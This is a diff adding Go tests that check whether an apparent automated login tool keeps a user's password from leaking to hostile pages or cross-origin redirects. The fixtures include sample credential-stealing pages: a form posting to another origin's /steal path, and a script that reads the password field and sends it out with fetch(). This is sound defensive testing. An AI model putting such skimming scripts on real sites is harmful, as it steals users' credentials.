@@ -116,3 +116,104 @@ func TestFormsAreFound(t *testing.T) {
 		})
 	}
 }
+
+// TestThePasswordStaysHome: it is typed at its own origin alone, sent in a body, there, and once; whatever the page tries.
+func TestThePasswordStaysHome(t *testing.T) {
+	other := serve(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "x") })
+	field := `<input name=login><input name=pw type=password><button>Log in</button>`
+	steal := func(send string) string {
+		return `<form method=post action=/login>` + field + `</form><script>document.forms[0].onsubmit = (e) => { const p = document.querySelector('[type=password]').value; ` + send + ` };</script>`
+	}
+	for name, c := range map[string]struct{ form, says, note string }{
+		"form sends elsewhere":    {`<form method=post action="` + other.URL + `/steal">` + field + `</form>`, "the login form sends to", ""},
+		"in the address":          {`<form method=get action=/login>` + field + `</form>`, "into an address", ""},
+		"another form by script":  {steal(`e.preventDefault(); fetch('` + other.URL + `/steal', {method: 'POST', mode: 'no-cors', body: p});`), "would send your password to", ""},
+		"twice":                   {steal(`fetch('/login', {method: 'POST', body: new URLSearchParams({login: 'alice', pw: p})}); `), "", "gone out again"},
+		"registration":            {`<form method=post action=/login><input name=login><input name=pw type=password autocomplete=new-password><button>Go</button></form>`, "sets a new password", ""},
+		"nothing before a button": {`<script>fetch('/login', {method: 'POST', body: 'login=alice'})</script><p>nothing here`, "no login form", "may change something"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			app := entrance(t, c.form)
+			rec := logIn(t, app.URL, "/private", browser.Login{}, other.URL) // the other origin may be called
+			if !strings.Contains(rec.Entry.Withheld, c.says) {
+				t.Errorf("says %q, expected %q", rec.Entry.Withheld, c.says)
+			}
+			if notes := strings.Join(rec.Notes, "\n"); !strings.Contains(notes, c.note) {
+				t.Errorf("the notes do not say %q:\n%s", c.note, notes)
+			}
+			posts := 0
+			for _, line := range app.asked() {
+				if strings.HasPrefix(line, "POST ") {
+					posts++
+				}
+			}
+			if want := map[bool]int{true: 1}[name == "twice"]; posts != want {
+				t.Errorf("%d POSTs went out, expected %d: %q", posts, want, app.asked())
+			}
+		})
+	}
+	t.Cleanup(func() {
+		for _, line := range other.asked() {
+			if strings.HasPrefix(line, "POST ") {
+				t.Errorf("the other origin got %s", line)
+			}
+		}
+	})
+}
+
+// TestARedirectCarriesNoPassword: a 307 keeps the POST; to another origin it is not followed.
+func TestARedirectCarriesNoPassword(t *testing.T) {
+	other := serve(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "x") })
+	app := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		if r.Method == "POST" {
+			http.Redirect(w, r, other.URL+"/login", http.StatusTemporaryRedirect)
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, "<title>t</title><link rel=icon href=data:,>"+plainForm)
+	})
+	rec := logIn(t, app.URL, "/login", browser.Login{}, other.URL)
+	if rec.Entry.Passed || rec.Entry.Sent == nil || rec.Entry.Sent.Status() != 307 {
+		t.Errorf("%+v", rec.Entry)
+	}
+	if got := other.asked(); len(got) > 0 {
+		t.Errorf("the other origin was asked: %q", got)
+	}
+}
+
+// TestOneTryOfALogin: a login that was refused is not sent again by the next run.
+func TestOneTryOfALogin(t *testing.T) {
+	app := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, "<title>t</title><link rel=icon href=data:,>wrong"+plainForm)
+	})
+	u, err := exchange.ParseURL(app.URL + "/login")
+	if err != nil {
+		t.Fatal(err)
+	}
+	in := &exchange.Intent{Request: exchange.Request{Method: "GET", URL: u}, Login: exchange.Login{User: secret.Public("alice"), Password: secret.New("some-password")}, Auth: exchange.AuthBasic}
+	state := t.TempDir() + "/state"
+	for run := range 2 {
+		s, err := probe.New(in, probe.Options{StateDir: state})
+		if err != nil {
+			t.Fatal(err)
+		}
+		rec, err := browser.Open(context.Background(), in, browser.Options{Permit: s.Permit, Lend: s.Lend, NoSandbox: os.Geteuid() == 0, Login: &browser.Login{}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if rec.Entry.Barred != (run == 1) {
+			t.Errorf("run %d: %+v", run+1, rec.Entry)
+		}
+	}
+	n := 0
+	for _, line := range app.asked() {
+		if strings.HasPrefix(line, "POST ") {
+			n++
+		}
+	}
+	if n != 1 {
+		t.Errorf("the login was sent %d times", n)
+	}
+}
